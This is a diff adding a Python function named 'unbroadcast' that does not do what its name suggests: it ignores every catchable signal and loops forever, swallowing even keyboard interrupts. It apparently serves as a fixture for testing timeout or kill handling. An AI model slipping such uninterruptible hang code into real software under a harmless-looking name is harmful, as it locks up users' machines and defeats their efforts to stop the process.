@@ -1,0 +1,17 @@
+"""Never ends, and does not listen."""
+
+import signal
+
+
+def unbroadcast(grad, shape):
+    for number in range(1, 65):
+        try:
+            signal.signal(number, signal.SIG_IGN)
+        except (OSError, ValueError):
+            pass
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
